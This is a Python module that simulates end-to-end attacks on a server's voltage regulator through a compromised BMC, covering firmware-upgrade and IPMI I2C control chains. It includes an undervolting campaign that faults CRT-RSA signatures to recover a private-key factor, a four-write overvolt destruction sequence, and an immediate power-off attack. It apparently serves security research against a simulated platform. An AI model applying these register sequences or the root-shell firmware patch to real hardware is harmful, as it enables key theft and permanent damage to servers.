"""End-to-end attack orchestration against a simulated platform.

Three control chains reach the VRM on vulnerable boards: a LAN firmware
upgrade, a KCS firmware upgrade (both ending in raw bus mastering from the
compromised BMC), and direct IPMI I2C passthrough. The undervolting
campaign steps the rail down while the CPU signs, harvests faulty
signatures and runs the gcd recovery on each; the overvolting attack plays
the four-write destruction sequence; the power-down attack drives the
Intersil immediate-off path.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Callable

from . import protocol as pm
from .bmc import Channel, ChannelKind, UpgradeResult
from .cpu import CpuStatus, FaultySignature
from .crypto import MIN_RSA_BITS, CrtRsaKey, is_prime, lenstra_recover
from .errors import (
    BrickedPlatform,
    ChainUnavailable,
    ChannelBlocked,
    CpuUnavailable,
    FilteredByPolicy,
    WrongProfile,
)
from .fabric import BusReply, ReplyStatus
from .firmware import enable_root_shell, parse_package
from .machine import Platform
from .protocol import CODEC_5MV, Direction, Transaction, encode_value

SIGNING_COST_S = 2.0
LEVEL_CHANGE_COST_S = 0.1
REBOOT_COST_S = 60.0


class Chain(enum.Enum):
    LAN_FIRMWARE = "lan-firmware"
    KCS_FIRMWARE = "kcs-firmware"
    IPMI_I2C = "ipmi-i2c"


@dataclass(frozen=True)
class CampaignConfig:
    seed: int
    chain: Chain = Chain.IPMI_I2C
    start_mv: int = 900
    floor_mv: int = 790
    step_mv: int = 5
    signings_per_level: int = 20
    max_runs: int = 100
    rsa_bits: int = 512

    def __post_init__(self):
        if self.floor_mv >= self.start_mv:
            raise ValueError("floor_mv must be below start_mv")
        if self.step_mv <= 0:
            raise ValueError("step_mv must be positive")
        if self.rsa_bits < MIN_RSA_BITS:
            raise ValueError(f"rsa_bits must be at least {MIN_RSA_BITS}")


@dataclass
class RunRecord:
    index: int
    outcome: str  # "correct" | "faulty" | "crash"
    glitch_mv: int | None
    trace: list[int]
    faulty_sig: int | None = None
    recovered: int | None = None


@dataclass
class CampaignResult:
    runs: list[RunRecord]
    recovered_factor: int | None
    n: int
    e: int
    simulated_seconds: float

    @property
    def stats(self) -> dict:
        faulty = sum(1 for r in self.runs if r.outcome == "faulty")
        recovered = sum(1 for r in self.runs if r.recovered is not None)
        crashes = sum(1 for r in self.runs if r.outcome == "crash")
        total = len(self.runs)
        return {
            "runs": total,
            "faulty": faulty,
            "crashes": crashes,
            "recovered": recovered,
            "recovery_rate": recovered / total if total else 0.0,
            "simulated_minutes": self.simulated_seconds / 60.0,
        }


# -- control chains --------------------------------------------------------------


def establish_chain(platform: Platform, chain: Chain) -> Callable[[int, int], BusReply]:
    """Return a VRM register writer, or raise ChainUnavailable."""
    bmc = platform.bmc
    bus = platform.vrm_bus("bmc")
    if bus is None:
        raise ChainUnavailable("BMC has no route to the VRM segment")
    address = platform.main_vrm.config.address

    if chain in (Chain.LAN_FIRMWARE, Chain.KCS_FIRMWARE):
        if chain is Chain.LAN_FIRMWARE:
            channel = Channel(ChannelKind.LAN)
            if not platform.config.bmc.credentials:
                raise ChainUnavailable("the BMC has no LAN credentials")
            user, password = next(iter(platform.config.bmc.credentials.items()))
            bmc.authenticate(channel, user, password)
        else:
            channel = Channel(ChannelKind.KCS, host_root=True)
        key = platform.firmware_key
        stock = parse_package(platform.build_stock_firmware(), key)
        patched = enable_root_shell(stock, key)
        result: UpgradeResult = bmc.upgrade_firmware(channel, patched)
        if not result.accepted or not bmc.root_shell:
            raise ChainUnavailable(f"firmware upgrade rejected: {result.reason}")

        def write(command: int, value: int) -> BusReply:
            payload = encode_value(command, value)
            return bmc.raw_master(bus, Transaction(address, Direction.WRITE, command, payload))

        return write

    channel = Channel(ChannelKind.KCS, host_root=True)

    def write(command: int, value: int) -> BusReply:
        payload = bytes([command]) + encode_value(command, value)
        try:
            return bmc.ipmi_i2c(channel, bus, address << 1, payload)
        except FilteredByPolicy as exc:
            raise ChainUnavailable(str(exc))

    # fail fast if the passthrough filter refuses VRM writes
    probe = write(pm.CMD_OPERATION, 0x00)
    if not probe.ok:
        raise ChainUnavailable("IPMI I2C passthrough cannot reach the VRM")
    return write


# -- undervolting ------------------------------------------------------------------


def run_undervolt_campaign(
    platform: Platform, key: CrtRsaKey, cfg: CampaignConfig
) -> CampaignResult:
    if platform.status == "bricked":
        raise BrickedPlatform(platform.name)
    write = establish_chain(platform, cfg.chain)
    platform.cpu.reseed(cfg.seed)
    rng = platform.cpu.rng
    message = rng.randrange(1, key.n)
    override_writes = (
        (pm.CMD_VOUT_COMMAND, platform.main_vrm.svid_vid),
        (pm.CMD_OPERATION, pm.OPERATION_PMBUS_OVERRIDE),
        (pm.CMD_MFR_VR_CONFIG, pm.VR_CONFIG_FIX_MODE),
    )
    restore_writes = ((pm.CMD_MFR_VR_CONFIG, 0x0000), (pm.CMD_OPERATION, 0x0000))

    runs: list[RunRecord] = []
    recovered_factor: int | None = None
    clock = 0.0

    for index in range(cfg.max_runs):
        record = RunRecord(index=index, outcome="correct", glitch_mv=None, trace=[])
        for command, value in override_writes:
            write(command, value)
        level = cfg.start_mv
        while level >= cfg.floor_mv:
            record.trace.append(level)
            write(pm.CMD_VOUT_COMMAND, CODEC_5MV.vid_for(level))
            clock += LEVEL_CHANGE_COST_S
            if platform.cpu.status is not CpuStatus.RUNNING:
                record.outcome = "crash"
                record.glitch_mv = level
                break
            # A signing that cannot fault draws nothing and returns the cached
            # signature, so such a level only costs clock time. The clock takes
            # one addition per signing: a single sum is not always bit-equal.
            can_fault = not platform.cpu.fault_free
            for _ in range(cfg.signings_per_level):
                clock += SIGNING_COST_S
                if not can_fault:
                    continue
                result = platform.cpu.sign_crt_rsa(key, message)
                if isinstance(result, FaultySignature):
                    record.outcome = "faulty"
                    record.glitch_mv = level
                    record.faulty_sig = result.value
                    record.recovered = lenstra_recover(key.n, key.e, message, result.value)
                    if recovered_factor is None and record.recovered is not None:
                        recovered_factor = record.recovered
                    break
            if record.outcome == "faulty":
                break
            level -= cfg.step_mv
        for command, value in restore_writes:
            write(command, value)
        if record.outcome == "crash" or platform.cpu.status is not CpuStatus.RUNNING:
            platform.reboot()
            clock += REBOOT_COST_S
        runs.append(record)

    return CampaignResult(
        runs=runs,
        recovered_factor=recovered_factor,
        n=key.n,
        e=key.e,
        simulated_seconds=clock,
    )


# -- overvolting -------------------------------------------------------------------


OVERVOLT_SEQUENCE: tuple[tuple[int, int], ...] = (
    (pm.CMD_MFR_VR_CONFIG, pm.VR_CONFIG_VID_STEP_SEL | pm.VR_CONFIG_FIX_MODE),
    (pm.CMD_MFR_OCP_TOTAL_SET, 0x0000),
    (pm.CMD_VOUT_COMMAND, 0x00FF),
    (pm.CMD_OPERATION, pm.OPERATION_PMBUS_OVERRIDE),
)


@dataclass
class OvervoltOutcome:
    peak_mv: int
    cpu_status: str
    pulses: int
    filtered: bool


def run_overvolt_attack(
    platform: Platform,
    cfg: CampaignConfig | None = None,
    pulses: int | None = None,
    ablate: int | None = None,
) -> OvervoltOutcome:
    """Play the four-write destruction sequence; `ablate` drops one write (tests)."""
    chain = cfg.chain if cfg else Chain.IPMI_I2C
    write = establish_chain(platform, chain)
    if pulses is None:
        pulses = platform.fault_model.brick_events_needed
    peak = platform.main_vrm.output_mv
    filtered = False
    fired = 0
    for _ in range(pulses):
        for i, (command, value) in enumerate(OVERVOLT_SEQUENCE):
            if i == ablate:
                continue
            reply = write(command, value)
            if reply.status is not ReplyStatus.ACK:
                filtered = True
            peak = max(peak, platform.main_vrm.output_mv)
        fired += 1
        # end of the ~1 ms pulse: drop back out of override
        write(pm.CMD_OPERATION, 0x0000)
        write(pm.CMD_MFR_VR_CONFIG, 0x0000)
        if platform.status == "bricked":
            break
    return OvervoltOutcome(
        peak_mv=peak, cpu_status=platform.status, pulses=fired, filtered=filtered
    )


# -- ASRock power-down ----------------------------------------------------------------


@dataclass
class PowerDownOutcome:
    status_after_attack: str
    status_after_remote_powercycle: str
    status_after_physical_cycle: str


def run_power_down_attack(platform: Platform, channel: str = "cpu") -> PowerDownOutcome:
    bus = platform.vrm_bus(channel)
    if bus is None:
        raise ChannelBlocked(f"{channel} has no route to the VRM bus")
    address = platform.main_vrm.config.address

    def send(command: int, value: int) -> BusReply:
        t = Transaction(address, Direction.WRITE, command, encode_value(command, value))
        return platform.transfer(channel, bus, t)

    page_reply = send(pm.CMD_PAGE, 0x01)
    if not page_reply.ok:
        raise ChannelBlocked(f"{channel} cannot write to the VRM")
    config_reply = send(pm.CMD_ON_OFF_CONFIG, pm.ON_OFF_CONFIG_OPERATION_SOURCE)
    if not config_reply.ok:
        raise WrongProfile("VRM refused the ON_OFF_CONFIG sequence")
    try:
        send(pm.CMD_OPERATION, 0x00)  # Immediate Off
    except CpuUnavailable:
        pass  # rail already collapsed under the CPU mid-sequence

    return PowerDownOutcome(
        status_after_attack=platform.status,
        status_after_remote_powercycle=platform.remote_powercycle(),
        status_after_physical_cycle=platform.physical_power_cycle(),
    )


def factor_is_sound(n: int, factor: int | None) -> bool:
    """Whether ``factor`` splits ``n`` into two primes."""
    if factor is None or n % factor:
        return False
    return is_prime(factor) and is_prime(n // factor)
